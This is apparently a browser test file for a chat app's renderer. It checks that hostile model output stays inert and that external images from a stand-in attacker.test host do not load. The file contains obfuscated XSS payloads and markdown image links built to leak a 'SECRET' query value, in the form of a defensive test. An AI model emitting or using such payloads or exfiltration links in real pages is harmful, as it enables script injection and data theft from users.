/**
 * SECURITY.md T6 (XSS through rendered model output) and T7 (external images, link policy), in the
 * real page: the model answers with hostile Markdown/HTML and nothing may run or load.
 */
import type { ChatScript } from '@tauceti/mocks/ollama';
import type { Page, Request } from 'playwright-core';
import { expect, it } from 'vitest';
import { describeBrowser, useBrowserApp } from './support/browser-suite.ts';
import { ask, byTestId, lastAssistant, messages, openApp, showAllMessages } from './support/chat-page.ts';

const PAYLOADS = [
  '<img src=x onerror=window.__xss=1>',
  '[a](javascript:window.__xss=1)',
  '[a](JaVaScRiPt:window.__xss=1)',
  '[a](&#106;avascript:window.__xss=1)',
  '<svg onload=window.__xss=1>',
  '<iframe srcdoc="<script>parent.__xss=1</script>">',
  '[a](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg==)',
  '<a href="javascript:window.__xss=1">x</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror=window.__xss=1>',
  '```\n</code><img src=x onerror=window.__xss=1>\n```',
];

interface CspViolation {
  directive: string;
  blockedURI: string;
  sourceFile: string;
}

/** Records CSP violations from the first script on, so anything that slips past the sanitizer shows. */
async function watchCsp(page: Page) {
  await page.addInitScript(() => {
    const seen: CspViolation[] = [];
    (window as unknown as { __csp: CspViolation[] }).__csp = seen;
    document.addEventListener('securitypolicyviolation', (event) =>
      seen.push({ directive: event.violatedDirective, blockedURI: event.blockedURI, sourceFile: event.sourceFile }),
    );
  });
}

/** What is unsafe in the rendered answers: event handlers, script URLs, active or styling elements. */
function unsafeMarkup(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const problems: string[] = [];
    const safeUrl = /^(?:https?:|mailto:|#|\/api\/(?:uploads|images)\/)/i;
    const forbidden = 'script, iframe, frame, object, embed, svg, math, style, form, link, meta, base';
    for (const root of document.querySelectorAll('[data-testid="message"][data-role="assistant"] [data-testid="message-text"]')) {
      for (const element of root.querySelectorAll('*')) {
        if (element.matches(forbidden)) problems.push(`<${element.tagName.toLowerCase()}> element`);
        for (const attribute of element.attributes) {
          const value = attribute.value.trim();
          if (attribute.name.toLowerCase().startsWith('on')) problems.push(`${attribute.name} attribute on <${element.tagName.toLowerCase()}>`);
          if (['href', 'src', 'xlink:href', 'action', 'formaction', 'srcdoc'].includes(attribute.name.toLowerCase()) && !safeUrl.test(value)) {
            problems.push(`${attribute.name}="${value}" on <${element.tagName.toLowerCase()}>`);
          }
        }
      }
    }
    return problems;
  });
}

const xssRan = (page: Page) => page.evaluate(() => (window as unknown as { __xss?: unknown }).__xss);
const cspViolations = (page: Page) => page.evaluate(() => (window as unknown as { __csp: CspViolation[] }).__csp);
/** Violations except the app's own `eval` probe on load (see the last test), which no payload causes. */
const payloadCspViolations = async (page: Page, origin: string) =>
  (await cspViolations(page)).filter(
    (violation) => !(violation.directive === 'script-src' && violation.blockedURI === 'eval' && violation.sourceFile.startsWith(`${origin}/assets/`)),
  );

describeBrowser('hostile model output', () => {
  const app = useBrowserApp();

  async function answerWithEachPayload(page: Page, script: (payload: string) => ChatScript) {
    await watchCsp(page);
    await openApp(page, app.server);
    for (const [index, payload] of PAYLOADS.entries()) {
      app.mock.enqueueChat({ match: { stream: true }, ...script(payload) });
      await ask(page, `payload ${index}`);
      expect(await unsafeMarkup(page), `after payload ${payload}`).toEqual([]);
      expect(await lastAssistant(page).locator(byTestId('message-text')).textContent(), `payload ${payload} shows as something`).not.toBe('');
    }
    expect(await xssRan(page)).toBeUndefined();
    expect(await payloadCspViolations(page, app.server.url)).toEqual([]);

    // Stored and rendered again from the database.
    await page.reload();
    await lastAssistant(page).locator(byTestId('message-text')).waitFor();
    await showAllMessages(page);
    expect(await messages(page, 'assistant').count()).toBe(PAYLOADS.length);
    expect(await unsafeMarkup(page)).toEqual([]);
    expect(await xssRan(page)).toBeUndefined();
    expect(await payloadCspViolations(page, app.server.url)).toEqual([]);
  }

  it('renders every XSS payload inertly, streamed word by word and again after a reload', async () => {
    await answerWithEachPayload(app.page, (payload) => ({ content: payload }));
  });

  it('renders every XSS payload inertly when it arrives one character at a time', async () => {
    await answerWithEachPayload(app.page, (payload) => ({ chunks: [...payload] }));
  });

  it('loads nothing from an external host before a click, and opens links in a new tab without referrer', async () => {
    const { page, context, server, mock } = app;
    const attacker: string[] = [];
    const record = (request: Request) => {
      if (new URL(request.url()).hostname === 'attacker.test') attacker.push(request.url());
    };
    context.on('request', record);
    // Nothing leaves this machine: the attacker's host is answered here (only ever reached by the click).
    await context.route(/^https?:\/\/attacker\.test\//, (route) => route.fulfill({ status: 200, body: 'hello' }));
    mock.enqueueChat({
      match: { stream: true },
      content: [
        'Inline: ![x](https://attacker.test/p.png?q=SECRET)',
        'Reference: ![y][r]',
        'Html: <img src="https://attacker.test/x">',
        'Link: [ok](https://attacker.test/?q=SECRET)',
        '',
        '[r]: https://attacker.test/r.png?q=SECRET',
      ].join('\n\n'),
    });
    await openApp(page, server);
    await ask(page, 'Show me the pictures');
    const answer = lastAssistant(page).locator(byTestId('message-text'));

    const checkNothingLoaded = async () => {
      const images = await answer.locator('img').evaluateAll((nodes) => nodes.map((node) => node.getAttribute('src')));
      expect(images.filter((src) => src?.includes('attacker.test'))).toEqual([]);
      // Let lazy loading and layout have their chance before counting requests.
      await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 100))));
      expect(attacker).toEqual([]);
    };
    await checkNothingLoaded();
    expect(await answer.textContent()).toContain('image from attacker.test');

    const links = answer.locator('a[href*="attacker.test"]');
    expect(await links.count()).toBeGreaterThanOrEqual(3);
    for (const link of await links.all()) {
      expect(await link.getAttribute('target')).toBe('_blank');
      const rel = (await link.getAttribute('rel'))?.split(/\s+/) ?? [];
      expect(rel).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    }

    await page.reload();
    await answer.waitFor();
    await checkNothingLoaded();

    // The control: a click does open the link (in a new tab), so the listener above does see requests.
    const [popup] = await Promise.all([context.waitForEvent('page'), answer.getByRole('link', { name: 'ok', exact: true }).click()]);
    await popup.waitForLoadState();
    expect(attacker).toEqual(['https://attacker.test/?q=SECRET']);
  });

  it('trips no Content-Security-Policy rule of its own while loading, so any violation report means trouble', async () => {
    const { page, server } = app;
    await watchCsp(page);
    await openApp(page, server);
    await ask(page, 'Say something plain');
    expect(await cspViolations(page)).toEqual([]);
  });
});
